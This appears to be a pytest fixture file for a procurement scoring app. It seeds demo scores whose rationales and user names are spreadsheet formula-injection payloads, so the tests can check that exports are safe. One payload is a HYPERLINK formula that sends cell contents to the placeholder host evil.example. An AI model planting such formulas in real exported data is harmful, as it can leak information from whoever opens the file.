"""A demo-like procurement with risky rationales and a consensus, and a lead signed in."""

from __future__ import annotations

from datetime import datetime

import pytest
from sqlalchemy import select

from scoring.extensions import db
from scoring.models import Consensus, Procurement, Status, User
from scoring.services import evaluation
from scoring.services.demo import DEMO_PASSWORD, seed_demo

from ..helpers import sign_in

#: Rationales a spreadsheet would read as formulas if written naively.
RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
RISKY_NAME = "@Pat Patel"


@pytest.fixture
def fast_passwords(monkeypatch):
    """Cheap password hashes for the nine demo accounts (scrypt takes a while each)."""
    from werkzeug.security import generate_password_hash

    import scoring.models

    monkeypatch.setattr(
        scoring.models,
        "generate_password_hash",
        lambda password, method=None: generate_password_hash(password, method="pbkdf2:sha256:1"),
    )


@pytest.fixture
def demo(app, fast_passwords) -> Procurement:
    """The demo procurement, with Pat's scores (risky reasons) and one consensus agreed."""
    procurement, _ = seed_demo()
    pat = db.session.scalar(select(User).where(User.email == "rep@example.org"))
    evaluation.declare_conflicts(pat, procurement, {b.id: (False, "") for b in procurement.bidders})
    for i, cell in enumerate(evaluation.cells_for(pat, procurement)):
        evaluation.save_score(
            evaluator=pat,
            procurement=procurement,
            bidder=cell.bidder,
            section=cell.section,
            value=(i * 3) % 5,
            rationale=RISKY[i % len(RISKY)],
            expected_version=0,
        )
    evaluation.submit_scores(pat, procurement)
    pat.name = RISKY_NAME  # names are typed by people too
    # Moderation agrees one cell (set directly: the moderation screens are not under test).
    lead = procurement.lead
    bidder, section = procurement.bidders[0], procurement.sections[0]
    db.session.add(
        Consensus(
            bidder_id=bidder.id,
            section_id=section.id,
            value=3,
            rationale="=1+1 agreed after discussion",
            decided_by_id=lead.id,
            decided_at=datetime(2026, 6, 1, 14, 0),
        )
    )
    procurement.status = Status.MODERATION.value
    db.session.commit()
    return procurement


@pytest.fixture
def lead_client(client, demo):
    sign_in(client, "lead@example.org", DEMO_PASSWORD)
    return client
